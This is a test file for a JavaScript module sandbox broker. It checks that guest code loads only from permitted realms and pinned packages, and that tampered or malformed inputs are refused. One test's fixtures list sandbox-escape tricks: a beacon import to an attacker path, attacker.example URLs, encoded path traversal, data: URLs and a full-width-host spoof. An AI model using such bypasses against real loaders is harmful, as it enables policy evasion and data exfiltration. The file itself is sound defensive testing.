// Modules through the worker tier and the host-side broker, against a fake realm server on
// the test origin. The server's request log proves what was (and was not) requested.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { start } from './harness.mjs';

const files = new Map();
const log = []; // { path, auth }
let h;
let page;

const PKG_SRC = "export const version = '1.0.0';";
const sri = (s) => `sha384-${createHash('sha384').update(s).digest('base64')}`;

before(async () => {
  h = await start({
    '/realm/': (req, res, url) => {
      log.push({ path: url.pathname + url.search, auth: req.headers.authorization ?? null, method: req.method });
      const body = files.get(url.pathname);
      if (body === undefined) {
        res.writeHead(404).end('not found');
        return;
      }
      res.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' }).end(body);
    },
  });
  files.set('/realm/alice/card.js', "import { twice } from './lib/math.js';\nimport { version } from '/realm/pkg/v1.js';\nimport { theme } from '/realm/shared/theme.js';\nexport const answer = twice(21);\nexport const meta = JSON.stringify(import.meta);\nglobalThis.card = { answer, version, theme, meta };");
  files.set('/realm/alice/lib/math.js', 'export function twice(x) { return x * 2 }');
  files.set('/realm/shared/theme.js', "export const theme = 'dark';");
  files.set('/realm/pkg/v1.js', PKG_SRC);
  files.set('/realm/alice/beacon.js', "import '/realm/attacker/collect.js?beacon=1';");
  files.set('/realm/alice/tricks.js', [
    "export const results = [];",
    // The last: this module's own origin with a full-width host, which full IDNA maps onto it.
    "const wide = import.meta.url.replace('127.0.0.1', '\\uff11\\uff12\\uff17.0.0.1').replace('tricks.js', 'lib/math.js');",
    "for (const s of ['https://attacker.example/x.js', '//attacker.example/x.js', '/realm/alice-evil/x.js', '/realm/alice/..%2Fattacker/x.js', '/realm/attacker/x.js', 'data:text/javascript,1', 'lodash', wide]) {",
    "  try { await import(s); results.push(s + ': loaded'); } catch (e) { results.push(e.name); }",
    "}",
    "globalThis.tricks = results;",
  ].join('\n'));
  files.set('/realm/alice/tampered.js', "import '/realm/pkg/v2.js';");
  files.set('/realm/pkg/v2.js', 'export const version = "evil";');
  files.set('/realm/alice/broken.js', 'export const x = ;');
  files.set('/realm/alice/editable.js', "import { n } from './dep.js'; globalThis.seen = n;");
  files.set('/realm/alice/dep.js', 'export const n = 1;');
  files.set('/realm/alice/tokens.js', "import { CardDef, field, Button } from '@cardstack/card-api';\nclass Counter extends CardDef { static count = field('number'); }\nglobalThis.tokens = { sub: new Counter() instanceof CardDef, names: Object.getOwnPropertyNames(CardDef).sort(), desc: Counter.count, frozen: Object.isFrozen(Button) };");
  page = await h.page('/tests/');
  await page.waitForFunction(() => globalThis.ready === true);
});
after(async () => h && h.close());

const run = (fn, arg) => page.evaluate(`(${fn})(globalThis.pkg, ${JSON.stringify(arg)})`);

function setup(origin, pkgIntegrity, v2Integrity) {
  return {
    realms: [`${origin}/realm/alice/`],
    readable: [`${origin}/realm/shared/`],
    packages: { [`${origin.replace('http:', 'http:')}/realm/pkg/v1.js`]: pkgIntegrity },
    trusted: { '@cardstack/card-api': { CardDef: 'class', field: 'function', Button: 'value' } },
    v2: v2Integrity,
  };
}

test('a module graph loads through the broker: own realm, readable realm, pinned package; import.meta is { url }', async () => {
  log.length = 0;
  const r = await run(async (pkg, { origin, pkgIntegrity }) => {
    const tokens = [];
    const pool = new pkg.CompartmentPool({ credentials: (realm, url) => { tokens.push([realm, url]); return { authorization: `Bearer for ${realm}` }; } });
    const c = await pkg.Compartment.create({
      principal: `${origin}/realm/alice/`,
      modules: { readable: [`${origin}/realm/shared/`], packages: { [`${origin}/realm/pkg/v1.js`]: pkgIntegrity } },
      pool,
    });
    const exports = await c.import(`${origin}/realm/alice/card.js`);
    const card = await c.eval('card');
    pool.close();
    return { exports, card, tokens };
  }, { origin: h.origin, pkgIntegrity: sri(PKG_SRC) }).catch((e) => ({ error: String(e) }));
  assert.deepEqual(r.exports, ['answer', 'meta'], JSON.stringify(r));
  assert.equal(r.card.answer, 42);
  assert.equal(r.card.theme, 'dark');
  assert.deepEqual(JSON.parse(r.card.meta), { url: `${h.origin}/realm/alice/card.js` });
  // Credentials: asked for the own and readable realms only, never for the package.
  const byPath = Object.fromEntries(log.map((l) => [l.path, l.auth]));
  assert.equal(byPath['/realm/alice/card.js'], `Bearer for ${h.origin}/realm/alice/`);
  assert.equal(byPath['/realm/shared/theme.js'], `Bearer for ${h.origin}/realm/shared/`);
  assert.equal(byPath['/realm/pkg/v1.js'], null, 'no token goes to a package');
  assert.ok(log.every((l) => l.method === 'GET'));
});

test('confused-deputy tricks are denied before any request; the guest can catch the denial', async () => {
  log.length = 0;
  const r = await run(async (pkg, { origin }) => {
    const pool = new pkg.CompartmentPool();
    const c = await pkg.Compartment.create({ principal: `${origin}/realm/alice/`, pool });
    let beacon;
    try { await c.import(`${origin}/realm/alice/beacon.js`); beacon = 'loaded'; } catch (e) { beacon = { code: e.code, path: e.path }; }
    await c.import(`${origin}/realm/alice/tricks.js`);
    const tricks = await c.eval('tricks');
    let direct;
    try { await c.import(`${origin}/realm/attacker/x.js`); direct = 'loaded'; } catch (e) { direct = e.code; }
    const script = await c.eval(`import('${origin}/realm/attacker/y.js').then(() => 'loaded', (e) => e.name)`);
    let idn;
    try { await c.import('https://bücher.example/x.js'); idn = 'loaded'; } catch (e) { idn = { code: e.code, message: e.message }; }
    pool.close();
    return { beacon, tricks, direct, script, idn };
  }, { origin: h.origin });
  assert.equal(r.beacon.code, 'SANDBOX_POLICY_DENIED');
  assert.equal(r.beacon.path, '/realm/attacker/collect.js?beacon=1');
  assert.deepEqual(r.tricks, Array(8).fill('TypeError'));
  assert.equal(r.idn.code, 'SANDBOX_POLICY_DENIED');
  assert.match(r.idn.message, /not ASCII .*punycode/);
  assert.equal(r.direct, 'SANDBOX_POLICY_DENIED');
  assert.equal(r.script, 'TypeError');
  const attacker = log.filter((l) => !l.path.startsWith('/realm/alice/'));
  assert.deepEqual(attacker, [], 'the request log shows no request outside the realm');
  assert.deepEqual(h.requests.filter((u) => !u.startsWith(h.origin)), [], 'and nothing left the origin');
});

test('an integrity mismatch and a syntax error are typed, with the module URL and line', async () => {
  const r = await run(async (pkg, { origin, v2 }) => {
    const pool = new pkg.CompartmentPool();
    const c = await pkg.Compartment.create({ principal: `${origin}/realm/alice/`, modules: { packages: { [`${origin}/realm/pkg/v2.js`]: v2 } }, pool });
    const grab = (p) => p.then(() => 'loaded', (e) => ({ code: e.code, filename: e.filename, line: e.line }));
    const out = { tampered: await grab(c.import(`${origin}/realm/alice/tampered.js`)), broken: await grab(c.import(`${origin}/realm/alice/broken.js`)) };
    pool.close();
    return out;
  }, { origin: h.origin, v2: sri('export const version = "1.0.0";') });
  assert.equal(r.tampered.code, 'SANDBOX_POLICY_DENIED');
  assert.deepEqual(r.broken, { code: 'SANDBOX_SYNTAX', filename: `${h.origin}/realm/alice/broken.js`, line: 1 });
});

test('trusted imports are inert tokens', async () => {
  const r = await run(async (pkg, { origin }) => {
    const pool = new pkg.CompartmentPool();
    const c = await pkg.Compartment.create({ principal: `${origin}/realm/alice/`, modules: { trusted: { '@cardstack/card-api': { CardDef: 'class', field: 'function', Button: 'value' } } }, pool });
    await c.import(`${origin}/realm/alice/tokens.js`);
    const tokens = await c.eval('tokens');
    pool.close();
    return tokens;
  }, { origin: h.origin });
  assert.deepEqual(r, { sub: true, names: ['length', 'name', 'prototype'], desc: { token: 'field', args: ['number'] }, frozen: true });
});

test('an edited module is seen by every compartment after invalidation, dependents included', async () => {
  files.set('/realm/alice/dep.js', 'export const n = 1;');
  const first = await run(async (pkg, { origin }) => {
    globalThis.modPool = new pkg.CompartmentPool();
    globalThis.modA = await pkg.Compartment.create({ principal: `${origin}/realm/alice/`, pool: modPool });
    globalThis.modB = await pkg.Compartment.create({ principal: 'https://other.example/', modules: { readable: [`${origin}/realm/alice/`] }, pool: modPool });
    await modA.import(`${origin}/realm/alice/editable.js`);
    await modB.import(`${origin}/realm/alice/editable.js`);
    return [await modA.eval('seen'), await modB.eval('seen')];
  }, { origin: h.origin });
  assert.deepEqual(first, [1, 1]);
  files.set('/realm/alice/dep.js', 'export const n = 2;');
  log.length = 0;
  const second = await run(async (pkg, { origin }) => {
    const dropped = await modPool.realmChanged({ type: 'update', url: `${origin}/realm/alice/dep.js` });
    await modA.import(`${origin}/realm/alice/editable.js`);
    await modB.import(`${origin}/realm/alice/editable.js`);
    const seen = [await modA.eval('seen'), await modB.eval('seen')];
    modPool.close();
    return { dropped, seen };
  }, { origin: h.origin });
  assert.deepEqual(second.dropped, [`${h.origin}/realm/alice/dep.js`, `${h.origin}/realm/alice/editable.js`]);
  assert.deepEqual(second.seen, [2, 2]);
  assert.ok(log.some((l) => l.path === '/realm/alice/dep.js'), 'fresh source was fetched');
});

test('a worker parses a module source once: another compartment, and a reload of unchanged bytes, hit its cache', async () => {
  const nonce = Date.now();
  files.set('/realm/alice/cached.js', `import { k } from './cached-dep.js'; export const v = k + 1; // ${nonce}`);
  files.set('/realm/alice/cached-dep.js', `export const k = 41; // ${nonce}`);
  log.length = 0;
  const r = await run(async (pkg, { origin }) => {
    const pool = new pkg.CompartmentPool();
    const url = `${origin}/realm/alice/cached.js`;
    const cache = async () => (await pool.workerStats())[0].moduleCache;
    const make = () => pkg.Compartment.create({ principal: `${origin}/realm/alice/`, pool });
    const steps = [];
    const a = await make();
    const step = async (label, c) => {
      const before = await cache();
      const v = (await c.import(url), await c.eval(`import('${url}').then((m) => m.v)`));
      const after = await cache();
      steps.push({ label, v, hits: after.hits - before.hits, misses: after.misses - before.misses });
    };
    await step('first compartment', a);
    const b = await make();
    await step('second compartment', b);
    await pool.invalidate(`${origin}/realm/alice/cached-dep.js`);
    await step('reload, bytes unchanged', a);
    const stats = await pool.workerStats();
    // A worker killed while asked is left out rather than failing the whole answer.
    const asked = pool.workerStats();
    pool.close();
    const duringKill = await asked;
    return { steps, workers: stats.length, realms: stats[0].realms, entries: stats[0].moduleCache.entries, duringKill };
  }, { origin: h.origin });
  assert.equal(r.workers, 1, 'one principal, one worker');
  assert.equal(r.realms, 2);
  assert.deepEqual(r.steps, [
    { label: 'first compartment', v: 42, hits: 0, misses: 2 },
    { label: 'second compartment', v: 42, hits: 2, misses: 0 },
    { label: 'reload, bytes unchanged', v: 42, hits: 2, misses: 0 },
  ]);
  assert.ok(r.entries >= 2);
  assert.deepEqual(r.duringKill, []);
  const fetched = log.filter((l) => l.path.startsWith('/realm/alice/cached')).length;
  assert.equal(fetched, 6, 'the broker still fetches every load: the cache is keyed by the bytes it gets');
});

test('tokens cross back as TrustedTokens by identity; look-alikes and other compartments\' tokens are plain data', async () => {
  files.set('/realm/alice/export-tokens.js', "import { CardDef, field, Button } from '@cardstack/card-api';\nglobalThis.tree = { base: Button, again: Button, fake: { module: '@cardstack/card-api', export: 'Button' }, list: [Button] };");
  const r = await run(async (pkg, { origin }) => {
    const pool = new pkg.CompartmentPool();
    const trusted = { '@cardstack/card-api': { CardDef: 'class', field: 'function', Button: 'value' } };
    const a = await pkg.Compartment.create({ principal: `${origin}/realm/alice/`, modules: { trusted }, pool });
    await a.import(`${origin}/realm/alice/export-tokens.js`);
    const tree = await a.eval('tree');
    const b = await pkg.Compartment.create({ principal: 'https://bob.example/', modules: { trusted }, pool });
    await b.set('stolen', tree.base);
    const back = await b.eval('stolen');
    const lookalike = await a.eval("({ [Object.keys(tree)[0]]: 1, module: '@cardstack/card-api', export: 'Button' })");
    pool.close();
    const T = pkg.TrustedToken;
    return {
      base: tree.base instanceof T && tree.base.module === '@cardstack/card-api' && tree.base.export === 'Button',
      sameObject: tree.base === tree.again,
      list: tree.list[0] instanceof T,
      fake: tree.fake instanceof T,
      stolen: back instanceof T,
      stolenShape: JSON.stringify(back),
      lookalike: lookalike instanceof T,
    };
  }, { origin: h.origin });
  assert.deepEqual(r, { base: true, sameObject: true, list: true, fake: false, stolen: false, stolenShape: '{"module":"@cardstack/card-api","export":"Button"}', lookalike: false });
});

test('a policy change evicts and denies; a malformed policy is refused at set-up', async () => {
  const r = await run(async (pkg, { origin }) => {
    const pool = new pkg.CompartmentPool();
    const c = await pkg.Compartment.create({ principal: `${origin}/realm/alice/`, pool });
    await c.import(`${origin}/realm/alice/editable.js`);
    const gone = await c.setModulePolicy({ realms: [`${origin}/realm/bob/`] });
    let after;
    try { await c.import(`${origin}/realm/alice/editable.js`); after = 'loaded'; } catch (e) { after = e.code; }
    const bad = {};
    for (const [name, modules] of [['scheme only', { realms: ['https://'] }], ['empty', { realms: [''] }], ['no boundary', { realms: [`${origin}/realm/alice`] }], ['not a url', { readable: ['realm alice'] }], ['unknown key', { realm: [] }]]) {
      try { await pkg.Compartment.create({ principal: 'p', modules, pool }); bad[name] = 'accepted'; } catch (e) { bad[name] = [e.code, e.option]; }
    }
    pool.close();
    return { gone, after, bad };
  }, { origin: h.origin });
  assert.deepEqual(r.gone, [`${h.origin}/realm/alice/dep.js`, `${h.origin}/realm/alice/editable.js`]);
  assert.equal(r.after, 'SANDBOX_POLICY_DENIED');
  assert.deepEqual(r.bad, {
    'scheme only': ['SANDBOX_INVALID_OPTIONS', 'modules.realms'],
    empty: ['SANDBOX_INVALID_OPTIONS', 'modules.realms'],
    'no boundary': ['SANDBOX_INVALID_OPTIONS', 'modules.realms'],
    'not a url': ['SANDBOX_INVALID_OPTIONS', 'modules.readable'],
    'unknown key': ['SANDBOX_INVALID_OPTIONS', 'modules.realm'],
  });
});

test('a computed dynamic import is fetched by the broker while the guest waits, then resolves', async () => {
  files.set('/realm/alice/locales/nb.js', "import { hello } from './base.js';\nexport const greeting = hello + ', verden';");
  files.set('/realm/alice/locales/base.js', "export const hello = 'Hei';");
  log.length = 0;
  const r = await run(async (pkg, { origin }) => {
    const pool = new pkg.CompartmentPool();
    const c = await pkg.Compartment.create({ principal: `${origin}/realm/alice/`, pool });
    const lang = 'nb';
    const out = await c.eval(`Promise.all([
      import('${origin}/realm/alice/locales/' + ${JSON.stringify(lang)} + '.js').then((m) => m.greeting),
      import('${origin}/realm/mallory/' + 'x.js').catch((e) => e.name),
      import('${origin}/realm/alice/locales/' + 'xx.js').catch((e) => e.name),
    ])`);
    pool.close();
    return out;
  }, { origin: h.origin });
  assert.deepEqual(r, ['Hei, verden', 'TypeError', 'TypeError']);
  assert.deepEqual(log.map((l) => l.path).sort(), ['/realm/alice/locales/base.js', '/realm/alice/locales/nb.js', '/realm/alice/locales/xx.js']);
});
